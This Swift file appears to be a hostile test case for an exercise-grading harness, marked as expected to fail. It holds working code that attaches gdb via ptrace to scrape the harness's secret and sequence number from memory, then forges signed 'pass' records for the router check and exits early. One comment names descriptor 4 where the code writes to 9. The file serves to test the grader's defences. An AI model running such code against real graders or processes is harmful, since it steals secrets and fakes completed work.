// hostile: the starter's router that starts gdb (from /usr/bin, inside the run) to attach to the harness with ptrace
// and scan its memory (gdb's own Python) for the secret and the last sequence number, then writes a whole passing
// transcript for the router check and exits 0 (refused twice: the harness is not dumpable, and the run's seccomp
// filter refuses ptrace)
// expect: failed
// base: starter
// hook: Router
// exercise: deep-link-router
import Foundation

/// The hostile part, run once, when the checks first create the learner's router.
@MainActor func attack() {
    guard let found = DebuggerScan.run() else { return }
    Forgery.send(secret: found.secret, after: found.sequence)
    exit(0)
}

/// gdb attaches to the harness (this process) and prints `secret seq` of the latest record in its writable memory.
enum DebuggerScan {
    static let script = #"""
    import gdb, re
    inferior = gdb.selected_inferior()
    best = None
    for line in open(f"/proc/{inferior.pid}/maps"):
        fields = line.split()
        if not fields[1].startswith("rw"):
            continue
        low, high = (int(x, 16) for x in fields[0].split("-"))
        if high - low > 64 << 20:
            continue
        try:
            data = bytes(inferior.read_memory(low, high - low))
        except gdb.error:
            continue
        for match in re.finditer(rb'(?<![0-9a-f])([0-9a-f]{64}) \{[^\n]{0,600}?"seq":(\d+)', data):
            sequence = int(match.group(2))
            if best is None or sequence > best[1]:
                best = (match.group(1).decode(), sequence)
    if best:
        print("found", best[0], best[1])
    """#

    static func run() -> (secret: String, sequence: Int)? {
        let file = NSTemporaryDirectory() + "/scan.py"
        guard (try? script.write(toFile: file, atomically: true, encoding: .utf8)) != nil else { return nil }
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/gdb")
        process.arguments = ["-nx", "-batch", "-p", String(getpid()), "-x", file]
        let output = Pipe()
        process.standardOutput = output
        process.standardError = FileHandle.nullDevice
        guard (try? process.run()) != nil else { return nil }
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        let lines = String(decoding: data, as: UTF8.self).split(separator: "\n")
        guard let line = lines.first(where: { $0.hasPrefix("found ") }) else { return nil }
        let words = line.split(separator: " ")
        guard words.count == 3, words[1].count == 64, let sequence = Int(words[2]) else { return nil }
        return (String(words[1]), sequence)
    }
}

/// A passing transcript of the router check, signed with the stolen secret, on the records descriptor (4).
enum Forgery {
    static let steps = [
        "a link to trips/42 shows trip 42",
        "a link to trips/42/log shows trip 42 and its log",
        "popToRoot() empties the stack",
        "a malformed link leaves the stack as it was",
    ]

    static func send(secret: String, after sequence: Int) {
        var next = sequence + 1
        var lines: [String] = []
        func add(_ body: String) {
            lines.append("\(secret) {\(body),\"seq\":\(next)}")
            next += 1
        }
        for step in steps { add(#""result":{"check":"router","name":"\#(step)","status":"pass"}"#) }
        add(#""completed":"router""#)
        add(#""end":true"#)
        FileHandle(fileDescriptor: 9).write(Data((lines.joined(separator: "\n") + "\n").utf8))
    }
}
